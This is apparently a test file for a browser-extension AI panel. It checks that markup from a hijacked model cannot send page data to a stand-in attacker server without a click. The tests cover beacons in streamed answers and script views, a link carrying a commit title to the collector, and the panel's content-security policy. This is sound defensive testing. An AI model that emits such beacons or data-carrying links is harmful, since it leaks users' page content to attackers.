// A hijacked model writes every kind of markup that makes a browser fetch something by itself, into its
// answer and into a script's view. A second local origin counts what reaches it: nothing may, until
// the user opens a link after seeing where it goes.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Page } from 'puppeteer';
import type { TandemBrowser } from '../../scripts/browser/launch';
import type { FixtureServer } from '../../scripts/browser/fixture-server';
import { zeroClickBeacons } from '../fixtures/beacons/zero-click';
import type { FakeLlm } from '../fake-llm/server';
import { readManifest } from './support/manifest';
import { closeSampleSite, launchOnSampleSite } from './support/sample-site';

interface Collector {
  origin: string;
  paths: string[];
  close(): Promise<void>;
}

/** Another origin on this machine, standing in for an attacker's server: it records every request. */
async function startCollector(): Promise<Collector> {
  const paths: string[] = [];
  const server: Server = createServer((request, response) => {
    paths.push(request.url ?? '');
    response.writeHead(200, { 'content-type': 'text/plain', 'access-control-allow-origin': '*' });
    response.end('seen');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  // "localhost" is another origin than the sample site's 127.0.0.1, on another port besides.
  const origin = `http://localhost:${(server.address() as AddressInfo).port}`;
  return { origin, paths, close: () => new Promise((resolve) => server.close(() => resolve())) };
}

let tandem: TandemBrowser;
let site: FixtureServer;
let llm: FakeLlm;
let collector: Collector;

beforeAll(async () => {
  collector = await startCollector();
  ({ tandem, site, llm } = await launchOnSampleSite({ llm: {} }));
});

afterAll(async () => {
  await closeSampleSite({ tandem, site, llm });
  await collector?.close();
});

async function askOnSamplePull(question: string): Promise<Page> {
  const page = await tandem.browser.newPage();
  await page.goto(`${site.origin}/acme/widgets/pull/42`);
  const panel = await tandem.openPanel(await tandem.tabIdOf(page));
  await panel.waitForSelector('[data-testid="context-chip"]');
  await panel.type('[data-testid="composer-input"]', question);
  await panel.keyboard.press('Enter');
  await panel.waitForFunction(() => document.querySelector('[data-testid="assistant-turn"]')?.getAttribute('data-status') === 'done', { timeout: 30_000 });
  // Lazy images, media preload and font loads happen after layout; give them time to try.
  await panel.evaluate(() => window.scrollTo(0, document.body.scrollHeight));
  await new Promise((resolve) => setTimeout(resolve, 1_500));
  return panel;
}

describe('nothing leaves without a click', () => {
  const beacons = () => zeroClickBeacons(collector.origin);

  it('builds the extension pages with a policy that loads nothing remote', async () => {
    const manifest = (await readManifest()) as { content_security_policy?: { extension_pages?: string } };
    const directives = new Map((manifest.content_security_policy?.extension_pages ?? '').split(';').map((part) => {
      const [name = '', ...values] = part.trim().split(/\s+/);
      return [name, values.join(' ')] as const;
    }));
    expect(directives.get('default-src')).toBe("'self'");
    expect(directives.get('img-src')).toBe("'self' data: blob:");
    for (const name of ['media-src', 'object-src', 'frame-src', 'child-src', 'form-action', 'base-uri']) expect(directives.get(name)).toBe("'none'");
    expect(directives.get('style-src')).toBe("'self'");
    expect(directives.get('font-src')).toBe("'self'");
    expect(directives.get('script-src')).toBe("'self' 'wasm-unsafe-eval'");
  });

  it('is not blind: the same markup in an ordinary web page does send requests', async () => {
    const page = await tandem.browser.newPage();
    await page.goto(`${site.origin}/acme/widgets/pull/42`);
    await page.evaluate((html) => {
      const holder = document.createElement('div');
      holder.innerHTML = html;
      document.body.append(holder);
    }, beacons().map((beacon) => beacon.text).join('\n'));
    await new Promise((resolve) => setTimeout(resolve, 1_500));
    const kinds = new Set(collector.paths.map((path) => /^\/b\/([\w-]+)/.exec(path)?.[1]).filter(Boolean));
    console.log(`control: ${collector.paths.length} requests from ${kinds.size} of ${beacons().length} kinds in an ordinary page`);
    expect(kinds.size).toBeGreaterThanOrEqual(20);
    collector.paths.length = 0;
    await page.close();
  });

  it(`sends no request for any of ${zeroClickBeacons('x').length} kinds of beacon in a streamed answer`, async () => {
    const text = `Here is the summary.\n\n${beacons().map((beacon) => beacon.text).join('\n\n')}\n\nThat is all.`;
    llm.script([{ text }]);
    const panel = await askOnSamplePull('Summarise this pull request');
    expect(await panel.$eval('[data-testid="assistant-turn"]', (turn) => turn.textContent)).toContain('That is all.');
    await panel.screenshot({ path: 'test-results/zero-click-answer.png', fullPage: true });
    expect(collector.paths).toEqual([]);
    await panel.close();
  });

  it('sends no request for any of them in a script’s view.markdown', async () => {
    const code = `${beacons().map((beacon) => `view.markdown(${JSON.stringify(beacon.text)});`).join('\n')}\nreturn 'shown';`;
    llm.script([{ toolCalls: [{ name: 'run_script', arguments: JSON.stringify({ code }) }] }, { text: 'The views above are done.' }]);
    const panel = await askOnSamplePull('Show me a report');
    await panel.locator('[data-testid="script-trail"] summary').click();
    await panel.waitForSelector('.result-markdown');
    await new Promise((resolve) => setTimeout(resolve, 1_500));
    expect(await panel.$$eval('.result-markdown', (views) => views.length)).toBe(beacons().length);
    expect(collector.paths).toEqual([]);
    await panel.close();
  });

  it('opens a link to another site only after showing its whole address, and warns that it carries page text', async () => {
    // A commit title the sample pull request shows.
    const carried = encodeURIComponent('Add withRetry helper with jittered backoff');
    const href = `${collector.origin}/report?d=${carried}`;
    llm.script([{ text: `Read [the report](${href}) for details, or [the pull request](${site.origin}/acme/widgets/pull/42/files).` }]);
    const panel = await askOnSamplePull('Where is the report?');
    const tabsBefore = (await tandem.browser.pages()).length;

    await panel.locator(`a[href="${href}"]`).click();
    await panel.waitForSelector('[data-testid="link-preview"]');
    expect(await panel.$eval('[data-testid="link-preview-address"]', (element) => element.textContent)).toBe(href);
    expect(await panel.$eval('[data-testid="link-preview-warnings"]', (element) => element.textContent)).toMatch(/carries text from the page/);
    await panel.screenshot({ path: 'test-results/zero-click-link-preview.png' });
    await panel.locator('[data-testid="link-preview-cancel"]').click();
    await panel.waitForSelector('[data-testid="link-preview"]', { hidden: true });
    // A middle click is a click too: it is previewed, not followed.
    await panel.click(`a[href="${href}"]`, { button: 'middle' });
    await panel.waitForSelector('[data-testid="link-preview"]');
    await panel.locator('[data-testid="link-preview-cancel"]').click();
    await new Promise((resolve) => setTimeout(resolve, 500));
    expect(collector.paths).toEqual([]);
    expect((await tandem.browser.pages()).length).toBe(tabsBefore);

    // Opened with the user's click, it reaches the collector (so the counter is not blind).
    await panel.locator(`a[href="${href}"]`).click();
    await panel.locator('[data-testid="link-preview-open"]').click();
    await waitFor(() => collector.paths.length > 0);
    // The opened tab asks for its favicon as well.
    expect(collector.paths.filter((path) => path !== '/favicon.ico')).toEqual([`/report?d=${carried}`]);

    // A link on the page's own site opens at once, in a new tab.
    const sameSite = `${site.origin}/acme/widgets/pull/42/files`;
    await panel.bringToFront();
    await panel.locator(`a[href="${sameSite}"]`).click();
    await tandem.browser.waitForTarget((target) => target.url() === sameSite, { timeout: 10_000 });
    expect(await panel.$('[data-testid="link-preview"][open]')).toBeNull();
    await panel.close();
  });

  it('holds with the sanitiser out of the way: the panel page’s own policy stops every load it governs', async () => {
    const page = await tandem.browser.newPage();
    await page.goto(`${site.origin}/acme/widgets/pull/42`);
    const panel = await tandem.openPanel(await tandem.tabIdOf(page));
    await panel.waitForSelector('[data-testid="context-chip"]');
    // What a sanitiser bug would let through: the page's own policy is all that is left.
    await panel.evaluate((html) => document.body.insertAdjacentHTML('beforeend', html), beacons().map((beacon) => beacon.text).join('\n'));
    await new Promise((resolve) => setTimeout(resolve, 1_500));
    // A policy governs loads, not prefetch hints or navigation: the allowlist is what keeps <link> and <meta> out.
    const kinds = new Set(collector.paths.map((path) => /^\/b\/([\w-]+)/.exec(path)?.[1]).filter(Boolean));
    console.log(`policy alone: ${[...kinds].join(', ') || 'nothing'} of ${beacons().length} kinds got through`);
    expect([...kinds].every((kind) => kind === 'link-prefetch' || kind === 'meta-refresh')).toBe(true);
    collector.paths.length = 0;
    await panel.close();
    await page.close();
  });
});

async function waitFor(condition: () => boolean | Promise<boolean>, timeoutMs = 10_000): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!(await condition())) {
    if (Date.now() > deadline) throw new Error('timed out waiting');
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
}
